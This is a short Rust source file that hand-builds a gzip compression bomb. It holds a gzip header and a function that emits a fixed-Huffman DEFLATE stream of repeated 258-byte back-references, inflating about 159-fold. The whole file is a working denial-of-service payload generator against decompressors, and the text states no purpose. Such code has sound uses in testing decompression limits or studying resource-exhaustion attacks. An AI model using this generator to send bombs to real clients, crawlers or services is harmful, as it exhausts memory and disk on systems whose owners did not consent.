//! A compression bomb: 159 times as large once it is unpacked. Written by hand, since nothing
//! here compresses (RFC 1951, fixed codes).

/// Bytes of zeros that each 13 packed bytes stand for: eight matches of the greatest length.
const PACKED: usize = 13;

/// The head of a gzip file.
pub(super) const GZIP: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// The beginning of a block, one zero, and then at least so many packed bytes of zeros.
pub(super) fn bomb(bytes: usize) -> Vec<u8> {
    // not the last block, fixed codes; the literal 0
    let begin = [0, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0];
    // 258 bytes once more, from one byte before
    let again = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];
    let times = bytes.div_ceil(PACKED) * 8;
    let bits = begin.into_iter().chain(again.repeat(times));
    let bits: Vec<u8> = bits.collect();
    let byte = |bits: &[u8]| bits.iter().rev().fold(0, |byte, bit| byte << 1 | bit);
    bits.chunks_exact(8).map(byte).collect()
}
